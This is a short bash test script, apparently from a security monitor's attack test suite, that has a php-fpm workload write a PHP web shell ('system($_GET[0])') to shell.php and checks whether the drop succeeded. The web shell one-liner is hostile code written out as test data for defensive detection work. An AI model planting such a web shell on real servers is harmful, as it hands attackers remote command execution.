#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# A page that is a shell.
# workload: php-fpm
# orders: orders.php
# program: /usr/sbin/php-fpm8.2
# deed: inode_create
# object: shell.php

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
orders() { echo 'echo file_put_contents("$base/run/data/shell.php", "<?php system(\$_GET[0]);") > 0 ? "dropped" : "not";'; }
proof() { printed dropped; }
main "$@"
